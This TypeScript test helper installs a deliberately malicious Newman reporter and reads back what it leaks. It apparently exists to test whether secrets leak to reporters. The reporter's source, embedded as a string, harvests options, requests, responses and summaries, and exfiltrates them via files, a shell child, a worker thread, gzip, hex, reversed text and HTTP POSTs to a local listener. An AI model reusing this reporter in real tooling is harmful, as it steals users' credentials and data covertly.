// A reporter that gives away all it knows in nine ways, as reporters of other people may: to files, through processes, threads,
// compression and spelling, and over the network. And how to read what it wrote.

import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gunzipSync } from 'node:zlib';

/**
 * The source of the package `newman-reporter-attack`; its options are a directory and a port of {@link startListener}. Without a
 * port it only writes files.
 */
const SOURCE = String.raw`
const fs = require('fs'), http = require('http'), zlib = require('zlib'), cp = require('child_process');
const { Worker } = require('worker_threads');
const post = (port, path) => http.request({ host: '127.0.0.1', port, method: 'POST', path }, response => response.resume());
/** Everything that can be reached from a value, hidden members too. */
const all = (value, met = new Set()) => {
  if (typeof value === 'string') return value;
  if (typeof value !== 'object' || value === null || met.has(value)) return '';
  met.add(value);
  if (Buffer.isBuffer(value)) return value.toString('latin1');
  const inner = value instanceof Map || value instanceof Set ? [...value] : [];
  return [...inner, ...Reflect.ownKeys(value).flatMap(key => [String(key), value[key]])].map(one => all(one, met)).join('\n');
};
module.exports = function (emitter, { out, port }, options) {
  const seen = [all(options)];
  const { emit } = emitter;
  emitter.emit = (name, error, data) => {
    seen.push(name, all(error));
    for (const key of Object.keys(data || {})) seen.push(all(data[key]));
    if (name === 'console') fs.appendFileSync(out + '/appended', JSON.stringify(data.messages) + '\n');
    return emit.call(emitter, name, error, data);
  };
  emitter.on('request', (error, { request, response }) => {
    seen.push(request.url.toString(), String(request.body), response ? response.text() : '');
  });
  emitter.on('beforeDone', (error, { summary }) => {
    const text = [...seen, all(summary), JSON.stringify(summary)].join('\n');
    fs.writeFileSync(out + '/plain', text);
    emitter.exports.push({ name: 'attack', default: 'attack.txt', path: out + '/exported.txt', content: text });
    if (!port) return;
    cp.execFileSync('sh', ['-c', 'cat > "$0"', out + '/child'], { input: text });
    new Worker("require('fs').writeFileSync(require('worker_threads').workerData[0], require('worker_threads').workerData[1])",
      { eval: true, workerData: [out + '/worker', text] });
    fs.writeFileSync(out + '/gzip', zlib.gzipSync(text));
    fs.writeFileSync(out + '/hex', Buffer.from(text).toString('hex'));
    fs.writeFileSync(out + '/reversed', [...text].reverse().join(''));
    post(port, '/http').end(text);
    fs.writeFileSync(out + '/for-child', text);
    cp.execFileSync(process.execPath, ['-e',
      "require('http').request({host:'127.0.0.1',port:" + port + ",method:'POST',path:'/http-from-child'},r=>r.resume()).end(require('fs').readFileSync(process.argv[1]))",
      out + '/for-child']);
  });
};`;

/** Puts the reporter into a directory of packages, to be found by NODE_PATH. */
export const installAttackingReporter = (modules: string): void => {
  mkdirSync(`${modules}/newman-reporter-attack`, { recursive: true });
  writeFileSync(`${modules}/newman-reporter-attack/index.js`, SOURCE);
};

/** Starts what the reporter sends to by HTTP. */
export const startListener = async () => {
  const received: Record<string, string> = {};
  const server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk);
    received[request.url ?? ''] = Buffer.concat(chunks).toString();
    response.end();
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  return { received, port: (server.address() as AddressInfo).port, close: () => server.close() };
};

/** The nine ways, and how what was written by each is read. */
export const WAYS: Record<string, (out: string, received: Record<string, string>) => string> = {
  'a file': out => readFileSync(`${out}/plain`, 'utf8'),
  'appended lines': out => (existsSync(`${out}/appended`) ? readFileSync(`${out}/appended`, 'utf8') : ''),
  'a child process': out => readFileSync(`${out}/child`, 'utf8'),
  'a worker thread': out => readFileSync(`${out}/worker`, 'utf8'),
  'a compressed file': out => gunzipSync(readFileSync(`${out}/gzip`)).toString(),
  hexadecimal: out => Buffer.from(readFileSync(`${out}/hex`, 'utf8'), 'hex').toString(),
  'the text backwards': out => [...readFileSync(`${out}/reversed`, 'utf8')].reverse().join(''),
  HTTP: (_out, received) => received['/http'] as string,
  'HTTP from a child process': (_out, received) => received['/http-from-child'] as string,
};
